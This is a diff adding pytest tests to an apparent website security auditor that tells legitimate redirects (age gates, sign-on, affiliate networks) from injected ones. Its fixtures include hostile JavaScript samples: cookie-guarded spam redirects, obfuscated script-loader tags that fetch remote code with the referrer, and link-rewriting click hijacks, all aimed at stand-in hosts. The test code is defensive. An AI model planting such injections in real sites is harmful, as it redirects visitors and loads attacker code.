@@ -1046,3 +1046,176 @@ def test_an_overlay_with_landmarks_of_its_own_over_the_page_is_pinned(
     report = audit_listed(page, "https://harbourgazette.example/story")
     (found,) = [f for f in report.findings if f.kind == "fake-update"]
     assert found.severity is H and "overlay" in found.message
+
+
+# Gates: a site sends a visitor without its gate's cookie to the gate, which sets the
+# cookie once they pass (AgeChecker.net's and age-verification vendors' redirect
+# integration, a paywall's single sign-on). Injections of the "redirect once" form set
+# their own cookie as they leave, or test a cookie no gate names.
+GATES: list[tuple[str, str, Severity]] = [
+    ("a vape shop's age check service",
+     "if(!document.cookie.match(/agegate=ok/)){location.replace('https://www.agechecker."
+     "example/gate?site=vapehaus-41');}", L),
+    ("a winery's age verification, returning the visitor",
+     "if(document.cookie.indexOf('age_confirmed=yes')<0){window.location.href='https://"
+     "verify.ageproof.example/age-verify?return='+encodeURIComponent(location.href);}", L),
+    ("a members' paper's single sign-on",
+     "if(document.cookie.indexOf('logged_in=')===-1){window.location.replace('https://sso."
+     "memberhub.example/login?next='+encodeURIComponent(location.href));}", L),
+    ("a regional store's country picker",
+     "if(!/(^|; )geo_country=/.test(document.cookie)){location.href='https://intl.shopfront"
+     ".example/country-select?from=gb';}", L),
+    ("a cookie named as an age gate's, to a host naming none",
+     "if(!document.cookie.match(/agegate=ok/)){location.replace('https://cheap-pills."
+     "example/');}", M),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "severity"), GATES, ids=[g[0] for g in GATES])
+def test_a_gate_sending_visitors_without_its_cookie_is_no_cloaking(
+        name: str, code: str, severity: Severity, audit_listed: AuditListed) -> None:
+    """A cookie-guarded redirect read `high` ("only for visitors whose cookies passes a
+    test") for every age, consent, region and sign-in gate."""
+    report = audit_listed(wp_page(head=f"<script>{code}</script>"), URL)
+    assert [(f.kind, f.severity) for f in report.findings] == [("redirect", severity)], \
+        report.findings
+    if severity is M:
+        assert "check" in report.findings[0].message
+
+
+@pytest.mark.parametrize("code", [
+    # the classic injection: test a cookie, set it, send the visitor away once
+    "if(document.cookie.indexOf('_vis=1')==-1){document.cookie='_vis=1; path=/; max-age="
+    "86400';window.location.href='https://best-deals-now.example/go?s=1';}",
+    # a gate's cookie name set by the redirect itself, to a gate-named host
+    "if(!document.cookie.match(/agegate=ok/)){document.cookie='agegate=ok;path=/';location."
+    "replace('https://agecheck-promo.example/login');}",
+    # a cookie no gate names, to a host no gate names
+    "if(!document.cookie.match(/wp_visited/)){location.replace('https://cheap-pills.example/');}",
+    # a referrer test beside the gate's cookie
+    "if(document.referrer.indexOf('google')>-1&&document.cookie.indexOf('age_ok')<0){"
+    "location.replace('https://agecheck.example/gate');}",
+    # everyone but the site's signed-in editors, to a page named as a sign-in's
+    "if(document.cookie.indexOf('wordpress_logged_in')===-1){location.replace('https://"
+    "members-login.example/login.php?s=7');}",
+], ids=["sets its cookie", "sets a gate-named cookie", "names no gate", "tests the referrer",
+        "spares the site's editors"])
+def test_a_redirect_once_cookie_injection_stays_high(code: str,
+                                                     audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(head=f"<script>{code}</script>"), URL)
+    assert ("redirect", H) in [(f.kind, f.severity) for f in report.findings], report.findings
+
+
+# A TDS's tag written with its pieces decoded as the script runs (the forms SEO-spam
+# clean-ups find in hacked templates): `unescape`, `decodeURIComponent`, char codes.
+_TDS_HOST = "https://t.trafficdesk.example/in.php?r="
+WRITTEN_TDS_TAGS = [
+    ("unescape", "document.write(unescape('%3Cscript src=\"" + _TDS_HOST + "')+escape(document."
+     "referrer)+unescape('\"%3E%3C/script%3E'));"),
+    ("decodeURIComponent", "document.write(decodeURIComponent('%3Cscript%20src%3D%22https%3A%2F"
+     "%2Ft.trafficdesk.example%2Fin.php%3Fr%3D')+encodeURIComponent(document.referrer)+"
+     "decodeURIComponent('%22%3E%3C%2Fscript%3E'));"),
+    ("one char code", "document.write(String.fromCharCode(60)+'script src=\"" + _TDS_HOST
+     + "'+escape(document.referrer)+'\">'+String.fromCharCode(60)+'/script>');"),
+    ("the tag name in char codes", "document.write(String.fromCharCode(60,115,99,114,105,112,"
+     "116)+' src=\"" + _TDS_HOST + "'+escape(document.referrer)+'\">'+String.fromCharCode(60,"
+     "47,115,99,114,105,112,116,62));"),
+]
+
+
+@pytest.mark.parametrize(("name", "code"), WRITTEN_TDS_TAGS, ids=[w[0] for w in WRITTEN_TDS_TAGS])
+def test_a_tds_tag_written_in_decoded_pieces_is_found(name: str, code: str,
+                                                      audit_listed: AuditListed) -> None:
+    """Its `<script src=` was in a decoder's literal, the referrer outside it: no finding."""
+    report = audit_listed(wp_page(footer=f"<script>{code}</script>"), URL)
+    (found,) = [f for f in report.findings if f.kind == "tds-loader"]
+    assert found.severity is M and "t.trafficdesk.example" in found.message
+
+
+# an old-style counter of a host the catalogue does not know: its script written with the
+# referrer, its no-script image from the same site
+_COUNTER = (
+    "<script>document.write(unescape('%3Cscript src=\"https://count.ruscounter.example/c.js?"
+    "id=4411&r=')+escape(document.referrer)+unescape('\"%3E%3C/script%3E'));</script>"
+    "<noscript><img src=\"https://count.ruscounter.example/c.gif?id=4411\" width=\"1\" "
+    "height=\"1\" alt=\"\"></noscript>")
+
+
+def test_an_unknown_counter_in_the_template_is_no_tds(audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(footer=_COUNTER), URL)
+    assert [f for f in report.findings if f.kind == "tds-loader"] == []
+
+
+@pytest.mark.parametrize("where", ["after", "head_top_before"])
+def test_a_counter_shaped_tag_outside_the_pages_markup_is_a_tds(
+        where: str, audit_listed: AuditListed) -> None:
+    """The no-script image excused the tag wherever it sat; after `</html>` or before
+    `<html>` no template writes, and an unknown host's referrer-keyed tag there is the
+    SEO-spam injection (a known counter is the catalogue's, and no finding)."""
+    page = wp_page(after=_COUNTER) if where == "after" else _COUNTER + "\n" + wp_page()
+    report = audit_listed(page, URL)
+    (found,) = [f for f in report.findings if f.kind == "tds-loader"]
+    assert found.severity is H and "outside the page's markup" in found.message
+    assert "no-script image" in found.message
+
+
+# Link monetisation: a click listener on the page sending outbound clicks through an
+# affiliate network (the site's own code in Skimlinks' or VigLink's redirect form, or its
+# Amazon Associates tag), against the same listener sending them through a host no
+# vendor runs. A named affiliate network is the site's business model, no hijack.
+_CLICKS_TO = (
+    "<script>document.addEventListener('click',function(e){var a=e.target.closest('a');if(!a"
+    "||a.hostname===location.hostname)return;e.preventDefault();window.location.href={to};}});"
+    "</script>")
+AFFILIATE_REWRITES: list[tuple[str, str, Severity]] = [
+    ("Skimlinks' redirect", "'https://go.skimresources.com/?id=123456X1654321&xs=1&url='+"
+     "encodeURIComponent(a.href)", L),
+    ("VigLink's redirect", "'https://redirect.viglink.com/?key=0a1b2c3d4e5f60718293a4b5c6d7e8f9"
+     "&u='+encodeURIComponent(a.href)", L),
+    ("the site's Amazon tag", "'https://www.amazon.com/dp/'+a.pathname.split('/')[2]+"
+     "'?tag=harbourgaz-21'", L),
+    ("a relay no vendor runs", "'https://go.clickrelay.example/r?u='+encodeURIComponent(a.href)",
+     M),
+]
+
+
+@pytest.mark.parametrize(("name", "to", "severity"), AFFILIATE_REWRITES,
+                         ids=[a[0] for a in AFFILIATE_REWRITES])
+def test_outbound_clicks_through_an_affiliate_network_are_no_hijack(
+        name: str, to: str, severity: Severity, audit_listed: AuditListed) -> None:
+    """Each read medium (click-hijacking); through a network the catalogue files as
+    affiliate it is low and names the network."""
+    report = audit_listed(wp_page(footer=_CLICKS_TO.replace("{to}", to)), URL)
+    (found,) = [f for f in report.findings if f.kind == "redirect"]
+    assert found.severity is severity, found
+    assert ("affiliate network" in found.message) is (severity is L)
+
+
+RELAYS: list[tuple[str, str, Severity | None]] = [
+    ("every link through a relay no vendor runs",
+     "var l=document.getElementsByTagName('a');for(var i=0;i<l.length;i++){l[i].href='https://"
+     "go.clickrelay.example/r?u='+encodeURIComponent(l[i].href);}", M),
+    ("jQuery's attr on every link, through the relay",
+     "jQuery('a').attr('href',function(i,h){return 'https://go.clickrelay.example/r?u='+h;});",
+     M),
+    ("outbound links through Skimlinks, by the site's code",
+     "document.querySelectorAll('a').forEach(function(a){if(a.hostname!==location.hostname){"
+     "a.href='https://go.skimresources.com/?id=123456X1654321&url='+encodeURIComponent(a.href);"
+     "}});", L),
+    ("one link named by its text given a partner's address",
+     "document.querySelectorAll('a').forEach(function(a){if(a.textContent==='Shop'){a.href="
+     "'https://shop.partner.example/';}});", None),
+    ("every link moved to https",
+     "[].forEach.call(document.links,function(a){a.href=a.href.replace('http:','https:');});",
+     None),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "severity"), RELAYS, ids=[r[0] for r in RELAYS])
+def test_every_link_rewritten_through_another_site_is_click_hijacking(
+        name: str, code: str, severity: Severity | None, audit_listed: AuditListed) -> None:
+    """A script rewriting each link to pass through another site was no finding; no
+    click or `location` was in it."""
+    report = audit_listed(wp_page(footer=f"<script>{code}</script>"), URL)
+    found = [f.severity for f in report.findings if f.kind == "redirect"]
+    assert found == ([severity] if severity else []), report.findings
